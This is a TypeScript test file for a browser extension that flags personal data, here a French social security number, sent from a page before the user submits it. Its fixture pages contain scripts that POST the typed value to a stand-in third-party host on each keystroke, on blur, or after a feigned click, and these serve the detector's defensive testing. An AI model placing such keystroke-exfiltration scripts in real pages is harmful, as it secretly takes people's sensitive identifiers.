/** What leaves while the person types, and what leaves because they send it. */
import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
import type {Report} from '../../src/core/model.ts';
import {type Browser, openBrowser} from '../rig/browser.ts';
import type {Page} from '../rig/page.ts';
import type {Servers} from '../rig/servers.ts';
import {browsers, extensionOf, form, NIR, SPACED, startSite} from './site.ts';
import {expectValid} from './valid.ts';

const post = "fetch('https://suivi.test/frappe', {method: 'POST', body: JSON.stringify({v: nir.value})})";
const here = post.replace('https://suivi.test', '');
const own = form('https://portail.test/envoi');
const script = (source: string): string => `<script>${source}</script>`;
const bare =
  '<label>Numéro de sécurité sociale <input id="nir" name="nir"></label><button id="envoyer">Envoyer</button>';

const pages = {
  '/frappe': `${own}${script(`nir.addEventListener('input', () => { ${post}; });`)}`,
  '/sortie': `${own}${script(`nir.addEventListener('blur', () => { ${post}; });`)}`,
  '/recherche': `${own}${script(`nir.addEventListener('input', () => { ${here}; });`)}`,
  '/envoi-par-script': `${own}${script(`f.addEventListener('submit', (e) => { e.preventDefault(); ${post}; });`)}`,
  '/sans-formulaire': `${bare}${script(`envoyer.addEventListener('click', () => { ${post}; });`)}`,
  '/clic-feint': `${bare}${script(`nir.addEventListener('input', () => { envoyer.dispatchEvent(new MouseEvent('click', {bubbles: true})); ${post}; });`)}`,
  '/envoi-simple': own,
};

describe.each(browsers)('in %s', (name) => {
  let servers: Servers;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    servers = await startSite(pages);
    browser = await openBrowser(name, {extensionDir: extensionOf(name), servers, language: 'fr'});
  });
  afterAll(async () => {
    await browser?.close();
    await servers?.close();
  });
  afterEach(() => page.close());

  const early = ({findings}: Report) => findings.filter(({rule}) => rule === 'early-send');
  const openAt = async (path: string): Promise<void> => {
    page = await browser.page(`https://portail.test${path}`);
    await browser.reportWhen(page, 'the field', ({fields}) =>
      fields.some(({category}) => category === 'nir'),
    );
    servers.log.clear();
  };
  const sent = () =>
    servers.log.arrived(
      ({body, complete}) => complete && body.toString().replace(/[\s+]/g, '').includes(NIR),
    );

  it.each(['/frappe', '/clic-feint'])('tells what leaves with the keys at %s', async (path) => {
    await openAt(path);
    await page.type('#nir', SPACED);
    await sent();
    const report = await browser.reportWhen(page, 'the early send', (one) => early(one).length > 0);
    expect(early(report)).toMatchObject([
      {
        severity: 'critical',
        category: 'nir',
        status: 'observed',
        destination: 'suivi.test',
        reasons: expect.arrayContaining(['before-submission', 'field:Numéro de sécurité sociale']),
      },
    ]);
    expectValid(report);
  });

  it('tells what leaves when the person goes to another field', async () => {
    await openAt('/sortie');
    await page.type('#nir', SPACED);
    await page.evaluate('() => nir.blur()');
    await sent();
    await browser.reportWhen(page, 'the early send', (one) => early(one).length > 0);
  });

  it('tells the site’s own search as one types as information', async () => {
    await openAt('/recherche');
    await page.type('#nir', SPACED);
    await sent();
    const report = await browser.reportWhen(page, 'the early send', (one) => early(one).length > 0);
    expect(early(report)).toMatchObject([{severity: 'info', destination: 'portail.test'}]);
    expect(report.verdict).toBe('nothing-seen');
  });

  it.each(['/envoi-par-script', '/sans-formulaire'])('says of %s that the person sent it', async (path) => {
    await openAt(path);
    await page.type('#nir', SPACED);
    await page.click('#envoyer');
    await sent();
    const report = await browser.reportWhen(page, 'the send', ({findings}) =>
      findings.some(({rule}) => rule === 'third-party'),
    );
    expect(early(report)).toEqual([]);
  });

  it('says nothing of a plain submission', async () => {
    await openAt('/envoi-simple');
    await page.type('#nir', SPACED);
    await page.click('#envoyer');
    await sent();
    await page.waitFor("document.querySelector('#recu') !== null");
    const report = await browser.reportWhen(page, 'the page after', ({visit}) => visit?.pages.length === 2);
    expect(early(report)).toEqual([]);
  });
});
